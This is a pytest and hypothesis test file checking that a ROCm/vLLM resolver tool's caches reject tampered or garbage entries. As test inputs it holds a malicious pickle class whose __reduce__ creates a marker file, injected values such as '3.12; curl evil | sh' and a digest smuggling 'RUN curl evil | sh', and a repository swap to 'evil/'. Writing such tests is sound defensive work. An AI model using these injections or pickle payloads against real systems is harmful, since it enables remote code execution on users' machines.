"""Channel: the caches (compiled matrix, registry digests, HTTP responses, sdist extracts). A cache
is never trusted: anything in it is either a valid entry or a miss; it never runs code, never
crashes, and what it says is re-validated before it is printed."""

from __future__ import annotations

import json
import pickle
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from resolver.artifacts.registry import DigestCache
from resolver.data import matrix, resources
from resolver.refresh.http import HttpClient

from .conftest import HOSTILE, assert_clean, cli, reply, scripted_server, write

GOOD_DIGEST = "sha256:" + "a" * 64
json_junk = st.recursive(
    st.one_of(
        st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=12)
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=12,
)


class _Boom:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (Path.touch, (str(Path(resources.cache_dir()) / "PWNED"),))


def _compiled_entries() -> list[Path]:
    return sorted((resources.cache_dir() / "matrix").glob("*.msgpack"))


@settings(HOSTILE, max_examples=12)
@given(
    content=st.one_of(
        st.binary(max_size=300), st.builds(lambda v: json.dumps(v).encode(), json_junk)
    )
)
@example(content=b"[" * 100_000)
@example(content=b'{"format": 1, "files": {"rocm.toml": [' + b"9" * 5000 + b"]}}")
@example(content=b'{"format": 1, "files": {"rocm.toml": [{"version": 1e999}]}}')
@example(content=pickle.dumps(_Boom()))
def test_compiled_matrix_cache_garbage(content: bytes) -> None:
    matrix.reload()
    assert cli(["check", "--gfx", "gfx942", "--quiet"]).code in (0, 1)  # writes the entry
    entries = sorted((resources.cache_dir() / "matrix").glob("*"))  # entries and stat indexes
    assert entries and {e.suffix for e in entries} <= {".msgpack", ".stat"}
    for entry in entries:
        entry.write_bytes(content)
    matrix.reload()
    o = cli(["check", "--gfx", "gfx942", "--quiet"])
    assert_clean(o)
    assert o.code in (0, 1), str(o)
    assert not (resources.cache_dir() / "PWNED").exists()


def _edit_entry(entry: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    """Edit the records of an entry (a msgpack (format, matrix) pair), keeping its old seal."""
    seal, _, payload = entry.read_bytes().partition(b"\n")
    fmt, doc = msgspec.msgpack.decode(payload)
    edit(doc)
    entry.write_bytes(seal + b"\n" + msgspec.msgpack.encode([fmt, doc]))


def test_compiled_entry_with_altered_records_is_revalidated() -> None:
    """A hand-edited entry whose records would fail validation is a miss, not served."""
    matrix.reload()
    cli(["check", "--gfx", "gfx942", "--quiet"])
    (entry,) = _compiled_entries()

    def poison(doc: dict[str, Any]) -> None:
        doc["wheels"][0]["python"] = ["3.12; curl evil | sh"]

    _edit_entry(entry, poison)
    matrix.reload()
    m = matrix.load()
    assert all(";" not in p for w in m.wheels for p in w.python)


def test_sealed_entry_of_the_wrong_types_is_a_miss() -> None:
    """Even an entry sealed with this user's key is decoded against the record types: a field of
    the wrong type (a Python list that is a number) makes it a miss, and the TOML is read again."""
    matrix.reload()
    first = matrix.load()
    (entry,) = _compiled_entries()
    _, _, payload = entry.read_bytes().partition(b"\n")
    fmt, doc = msgspec.msgpack.decode(payload)
    doc["wheels"][0]["python"] = 312
    forged = msgspec.msgpack.encode([fmt, doc])
    key = matrix._seal_key()
    assert key is not None
    entry.write_bytes(matrix._seal(key, forged).encode() + b"\n" + forged)
    matrix.reload()
    assert matrix.load() == first


def test_compiled_entry_with_valid_but_altered_records_is_not_served() -> None:
    """issue 24: an edited entry whose records are valid data (every image moved to another
    repository) must not be served: its seal no longer matches, so the TOML is read again."""
    matrix.reload()
    cli(["check", "--gfx", "gfx942", "--quiet"])
    (entry,) = _compiled_entries()

    def poison(doc: dict[str, Any]) -> None:
        for image in doc["images"]:
            image["repo"] = "evil/vllm-openai-rocm"

    _edit_entry(entry, poison)
    matrix.reload()
    assert all(i.repo != "evil/vllm-openai-rocm" for i in matrix.load().images)
    o = cli(["image", "--gfx", "gfx942", "--gpus", "8", "--driver", "6.4.3"])
    assert o.code == 0, str(o)
    assert "vllm/vllm-openai-rocm" in o.out and "evil/" not in o.out + o.err


def test_compiled_entry_from_another_machine_is_a_miss(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A cache dir restored from elsewhere (CI, a shared home) carries no key: its entries were
    sealed by another key and are never read; the data files are parsed instead."""
    matrix.reload()
    matrix.load()
    (entry,) = _compiled_entries()
    monkeypatch.setenv("ROCM_VLLM_DATA_DIR", str(tmp_path / "other-user"))
    matrix.reload()
    parsed: list[object] = []
    real = matrix.bounded.load_toml

    def counting(*args: Any, **kw: Any) -> Any:
        parsed.append(args[0])
        return real(*args, **kw)

    monkeypatch.setattr(matrix.bounded, "load_toml", counting)
    matrix.load()
    assert parsed  # the entry sealed with the first key was not trusted
    assert entry.exists()
    matrix.reload()


@HOSTILE
@given(
    entry=json_junk,
    at=st.one_of(
        json_junk, st.sampled_from(["1e400", "nan", "x", 10**30, -1, 1e308, float("inf")])
    ),
)
@example(entry={"digest": "sha256:" + "a" * 64 + "\nRUN evil"}, at=None)
@example(entry={"digest": GOOD_DIGEST}, at="not a time")
@example(entry={"digest": GOOD_DIGEST}, at=10**30)
def test_digest_cache_entries(
    entry: object, at: object, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("digests") / "digests.json"
    if isinstance(entry, dict):
        entry = {**entry, "at": at}
    path.write_text(json.dumps({"k": entry}, default=str))
    hit = DigestCache(path).get("k")
    assert hit is None or (hit["digest"] == GOOD_DIGEST and time.time() - hit["at"] <= 24 * 3600)


@pytest.mark.parametrize(
    "content",
    [
        b"[" * 100_000,
        b"\xff\xfe",
        b'{"k": {"digest": "sha256:' + b"a" * 64 + b'", "at": ' + b"9" * 5000 + b"}}",
    ],
    ids=["deep", "not-utf8", "huge-at"],
)
def test_digest_cache_file_garbage(content: bytes, tmp_path: Path) -> None:
    path = write(tmp_path / "digests.json", content)
    assert DigestCache(path).get("k") is None


def test_cached_digest_is_revalidated_before_printing() -> None:
    """A tampered digests.json is a miss: the run asks the registry (unreachable here: exit 4)
    rather than print what the file says."""
    cache = resources.cache_dir() / "digests.json"
    bad = "sha256:" + "a" * 64 + "\nRUN curl evil | sh"
    key = "http://127.0.0.1:9/vllm/vllm-openai-rocm:v0.33.0"
    write(cache, json.dumps({key: {"digest": bad, "media_type": None, "at": time.time()}}))
    o = cli(
        ["image", "--gfx", "gfx942", "--registry", "http://127.0.0.1:9", "--digest"],
        env={"ROCM_VLLM_HTTP_DEADLINE": "3"},
    )
    assert_clean(o)
    assert o.code == 4 and "RUN curl" not in o.out, str(o)


# --- the HTTP response cache ------------------------------------------------------------------


@settings(HOSTILE, max_examples=15)
@given(meta=json_junk, body=st.binary(max_size=64))
@example(meta={"url": "x", "status": 200, "headers": {}, "sha256": "0" * 64}, body=b"truncated")
@example(meta={"url": "x", "status": "200", "headers": []}, body=b"")
@example(meta={"url": "x", "status": 10**30, "headers": {"etag": 5}}, body=b"")
def test_http_cache_entries(
    meta: object, body: bytes, tmp_path_factory: pytest.TempPathFactory
) -> None:
    cache = tmp_path_factory.mktemp("http")
    with scripted_server() as srv:
        srv.routes["/f"] = reply(200, b"fresh", {"ETag": '"e"'})
        client = HttpClient(cache_dir=cache, retries=0, sleep=lambda _s: None, deadline=5)
        key = client._key("GET", f"{srv.base}/f", None)
        write(cache / f"{key}.json", json.dumps(meta, default=str))
        write(cache / f"{key}.body", body)
        resp = client.get(f"{srv.base}/f", immutable=True)
        client.close()
    assert resp.body in (b"fresh", body)
    if resp.from_cache:
        assert isinstance(meta, dict) and meta.get("sha256") is not None


def test_truncated_cached_file_is_refetched(tmp_path: Path) -> None:
    with scripted_server() as srv:
        srv.routes["/raw/f"] = reply(200, b"FROM rocm/dev-ubuntu-22.04:7.2\nARG X=1\n")
        client = HttpClient(cache_dir=tmp_path, retries=0, sleep=lambda _s: None)
        first = client.get(f"{srv.base}/raw/f", immutable=True)
        assert not first.from_cache
        (body,) = tmp_path.glob("*.body")
        body.write_bytes(first.body[:10])  # a crash mid-write, a full disk
        again = client.get(f"{srv.base}/raw/f", immutable=True)
        client.close()
    assert again.body == first.body and not again.from_cache
    assert len([h for h in srv.hits if h.endswith("/raw/f")]) == 2


def test_read_only_cache_dir_only_costs_speed(tmp_path: Path) -> None:
    blocker = write(tmp_path / "not-a-dir", "x")  # a cache "dir" that cannot be created
    with scripted_server() as srv:
        srv.routes["/f"] = reply(200, b"{}")
        client = HttpClient(cache_dir=blocker / "http", retries=0, sleep=lambda _s: None)
        assert client.get(f"{srv.base}/f").body == b"{}"
        client.close()
    assert DigestCache(blocker / "digests.json").put("k", GOOD_DIGEST, None) is None


def test_check_with_an_unusable_cache_dir(tmp_path: Path) -> None:
    blocker = write(tmp_path / "file", "x")
    matrix.reload()
    o = cli(
        ["check", "--gfx", "gfx942", "--quiet"], env={"ROCM_VLLM_CACHE_DIR": str(blocker / "cache")}
    )
    assert_clean(o)
    assert o.code in (0, 1)


def test_a_release_refused_from_cached_files_names_the_cache(tmp_path: Path) -> None:
    """Files at a commit are answered from the cache for ever: when what they say makes a release
    unreadable, the refusal says the files came from the cache and how to read them again."""
    from packaging.version import Version

    from resolver.refresh.common import Endpoints, SourceResult
    from resolver.refresh.vllm import VllmSource

    sha = "a" * 40
    with scripted_server() as srv:
        srv.routes["*"] = reply(200, b"FROM rocm/dev-ubuntu-22.04:6.3\n")  # no pins: unusable
        ep = Endpoints(github_api=srv.base, github_raw=srv.base)
        reasons = []
        for _ in range(2):
            client = HttpClient(cache_dir=tmp_path, retries=0, sleep=lambda _s: None, deadline=5)
            result = SourceResult("vllm")
            assert (
                VllmSource(client, ep, {}).read_tag("v0.10.0", sha, Version("0.10.0"), result)
                is None
            )
            client.close()
            reasons.append(result.refused[0].reason)
    assert "HTTP cache" not in reasons[0]
    assert "read from the HTTP cache" in reasons[1] and str(tmp_path) in reasons[1]


def test_a_stat_index_pointing_elsewhere_is_a_miss() -> None:
    """The stat index (files' stat -> content key) is sealed like the entries: one edited to point
    at another entry this user's tool wrote (older data, say) is not followed; the content is
    hashed again and the right entry read."""
    matrix.reload()
    first = matrix.load()
    (index,) = sorted((resources.cache_dir() / "matrix").glob("*.stat"))
    (entry,) = _compiled_entries()
    decoy = entry.with_name("0" * 32 + ".msgpack")
    decoy.write_bytes(entry.read_bytes())  # a sealed entry, under another content key
    seal, _ = index.read_text().split()
    index.write_text(f"{seal}\n{'0' * 32}\n")
    matrix.reload()
    assert (
        matrix._compiled_path(resources.matrix_dir(), None, matrix._seal_key()) == entry
    )  # the forged index was not followed
    assert matrix.load() == first
